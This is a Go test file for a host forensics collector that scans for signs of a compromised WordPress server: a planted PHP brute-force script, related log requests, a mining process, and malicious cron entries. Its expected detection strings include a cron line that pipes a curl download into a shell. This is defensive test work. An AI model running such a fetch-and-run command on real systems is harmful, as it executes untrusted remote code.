package host

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
)

// brief is a finding with the fixture root cut off its path, for comparing.
func brief(root string, f Finding) string {
	s := fmt.Sprintf("%s %s:%d", f.Kind, strings.TrimPrefix(f.Path, root), f.Line)
	if f.Count > 0 {
		s += fmt.Sprintf(" count=%d lines=%v", f.Count, f.Lines)
	}
	if f.PID > 0 {
		s += fmt.Sprintf(" pid=%d", f.PID)
	}
	return s
}

func briefs(root string, fs []Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, brief(root, f))
	}
	return out
}

func dump(t *testing.T, res Result) {
	t.Helper()
	b, _ := json.MarshalIndent(res, "", "  ")
	t.Logf("result:\n%s", b)
}

func TestCollectFixture(t *testing.T) {
	f := newFixture(t)
	before := snapshot(t, f.root)
	res, err := Collect(context.Background(), f.opts)
	if err != nil {
		t.Fatalf("Collect: %v", err)
	}
	want := []string{
		"script /var/www/html/wp-content/uploads/2026/04/cache.php:6",
		// Lines 7, 9 and 10 are 1 s outside; 3 and 4 ask for other pages;
		// 11 names the script only in its Referer.
		"request /var/log/apache2/access.log:1 count=5 lines=[1 2 5 6 8]",
		"request /var/log/apache2/access.log:11 count=1 lines=[11]",
		"request /var/log/apache2/access.log:12 count=1 lines=[12]",
		"request /var/log/apache2/access.log.1:2 count=1 lines=[2]",
		"request /var/log/apache2/access.log.2.gz:2 count=1 lines=[2]",
		"request /var/log/apache2/error.log:1 count=2 lines=[1 3]",
		"request /var/log/apache2/modsec_audit.log:1 count=2 lines=[1 21]",
		"request /var/log/modsec/audit.json:1 count=2 lines=[1 2]",
		"request /var/log/modsec/audit.json:4 count=1 lines=[4]",
		"file /var/www/html/wp-content/uploads/2026/04/photo.jpg:0",
		"socket /usr/sbin/php-fpm8.2:0 pid=4242",
		"process /usr/bin/kworkerds:0 pid=4343",
		"cron /etc/cron.d/php:3",
		"cron /etc/systemd/system/update.service:7",
		"cron /var/spool/cron/crontabs/www-data:2",
	}
	if got := briefs(f.root, res.Findings); !slices.Equal(got, want) {
		dump(t, res)
		t.Fatalf("Collect findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if len(res.Problems) != 0 {
		t.Errorf("Collect problems = %q, want none", res.Problems)
	}
	reasons := map[int]string{
		0:  "contains target 203.0.113.44, a curl_multi loop, a remote wp-login.php URL (https://203.0.113.44/wp-login.php) and a password-list loop",
		1:  "5 requests to flagged script /wp-content/uploads/2026/04/cache.php from 198.51.100.7, 192.0.2.9",
		2:  "1 request in the window containing target 203.0.113.44 from 198.51.100.30",
		3:  "containing target 203.0.113.8 from 203.0.113.8",
		7:  "2 ModSecurity entries to flagged script /wp-content/uploads/2026/04/cache.php from 198.51.100.7, 192.0.2.9",
		10: "modified 2026-04-20 10:00 UTC, 10 h 0 min before the abuse window starts",
		11: "ESTABLISHED 10.0.0.5:41202 → 203.0.113.44:443 by pid 4242 (php-fpm: pool www)",
		12: "connected to a mining-pool port at 198.51.100.3:3333",
		13: "runs from /tmp",
		14: "runs as web user www-data and pipes a download into a shell",
		15: "runs as web user www-data and pipes a download into a shell: curl -s http://x/y | sh",
	}
	for i, r := range reasons {
		if !strings.Contains(res.Findings[i].Reason, r) {
			t.Errorf("finding %d reason = %q, want it to contain %q", i, res.Findings[i].Reason, r)
		}
	}
	for _, fd := range res.Findings {
		if strings.Contains(fd.Reason, "203.0.113.88") {
			t.Errorf("finding %+v matches 203.0.113.88", fd)
		}
	}
	sameTree(t, before, snapshot(t, f.root))
}

// sameTree reports every difference between two snapshots.
func sameTree(t *testing.T, before, after map[string]string) {
	t.Helper()
	for p, b := range before {
		if a, ok := after[p]; !ok {
			t.Errorf("after Collect, %s is gone", p)
		} else if a != b {
			t.Errorf("Collect changed %s:\nbefore %s\nafter  %s", p, b, a)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("after Collect, %s is new", p)
		}
	}
}

func TestCollectEmptyWebRoots(t *testing.T) {
	f := newFixture(t)
	f.opts.WebRoots = []string{}
	res, err := Collect(context.Background(), f.opts)
	if err != nil {
		t.Fatalf("Collect: %v", err)
	}
	for _, fd := range res.Findings {
		if fd.Kind == KindScript || fd.Kind == KindFile || strings.Contains(fd.Reason, "flagged script") {
			t.Errorf("with no web roots, Collect found %+v", fd)
		}
	}
	got := briefs(f.root, res.Findings)
	for _, w := range []string{"request /var/log/apache2/access.log:11 count=1 lines=[11]", "request /var/log/apache2/access.log:12 count=1 lines=[12]"} {
		if !slices.Contains(got, w) {
			t.Errorf("Collect findings = %q, want %q among them", got, w)
		}
	}
	if len(res.Problems) != 0 {
		t.Errorf("Collect problems = %q, want none", res.Problems)
	}
}

func TestCollectMissingPaths(t *testing.T) {
	dir := t.TempDir()
	o := Options{
		AccessLogs: []string{filepath.Join(dir, "nothing*.log")},
		WebRoots:   []string{filepath.Join(dir, "no-such-root")},
		From:       winFrom, To: winTo,
		Targets:  f0().opts.Targets,
		ProcRoot: filepath.Join(dir, "proc"),
		// CronPaths and UnitDirs nil: the defaults, some of which a test
		// machine may lack.
	}
	res, err := Collect(context.Background(), o)
	if err != nil {
		t.Fatalf("Collect: %v", err)
	}
	all := strings.Join(res.Problems, "\n")
	for _, w := range []string{"web root " + filepath.Join(dir, "no-such-root") + " does not exist", "matches no file", "socket table " + filepath.Join(dir, "proc/net/tcp") + " does not exist"} {
		if !strings.Contains(all, w) {
			t.Errorf("Collect problems = %q, want one with %q", res.Problems, w)
		}
	}
	for _, p := range []string{"/etc/crontab", "/etc/cron.d", "/var/spool/cron/crontabs", "/var/spool/cron", "/etc/systemd/system", "/run/systemd/system", "/usr/lib/systemd/system"} {
		_, err := os.Stat(p)
		noted := strings.Contains(all, p+" (default) does not exist")
		if os.IsNotExist(err) != noted {
			t.Errorf("default %s: exists %v, but noted as missing %v in %q", p, err == nil, noted, res.Problems)
		}
	}
	if res.Findings == nil {
		t.Error("Collect findings = nil, want an empty list")
	}
}

// f0 is a fixture's options without building the fixture.
func f0() *fixture { return &fixture{opts: Options{Targets: addrs("203.0.113.44", "203.0.113.8")}} }

// countdown is a context whose Err starts to report cancellation after n
// calls, so that a test can stop Collect in the middle of its work.
type countdown struct {
	context.Context
	n atomic.Int64
}

func (c *countdown) Err() error {
	if c.n.Add(-1) < 0 {
		return context.Canceled
	}
	return nil
}

func TestCollectCanceled(t *testing.T) {
	f := newFixture(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	res, err := Collect(ctx, f.opts)
	if err != nil {
		t.Fatalf("Collect(canceled): %v", err)
	}
	if res.Findings == nil || len(res.Findings) != 0 || len(res.Problems) != 1 || !strings.Contains(res.Problems[0], "stopped early") {
		t.Errorf("Collect(canceled) = %+v, want no findings and one problem", res)
	}

	// Stopped during the log scans: the script is there, the cron jobs
	// (the last stage) are not.
	cd := &countdown{Context: context.Background()}
	cd.n.Store(20)
	res, err = Collect(cd, f.opts)
	if err != nil {
		t.Fatalf("Collect(stopped midway): %v", err)
	}
	got := briefs(f.root, res.Findings)
	if len(got) == 0 || !strings.HasPrefix(got[0], "script ") || slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, "cron ") }) {
		t.Errorf("Collect(stopped midway) findings = %q, want the script and no cron", got)
	}
	if !slices.ContainsFunc(res.Problems, func(s string) bool { return strings.Contains(s, "stopped early") }) {
		t.Errorf("Collect(stopped midway) problems = %q, want a stop", res.Problems)
	}
}

func TestCollectBadWindow(t *testing.T) {
	if _, err := Collect(context.Background(), Options{From: winTo, To: winFrom}); err == nil {
		t.Error("Collect(From after To) = nil error, want one")
	}
}
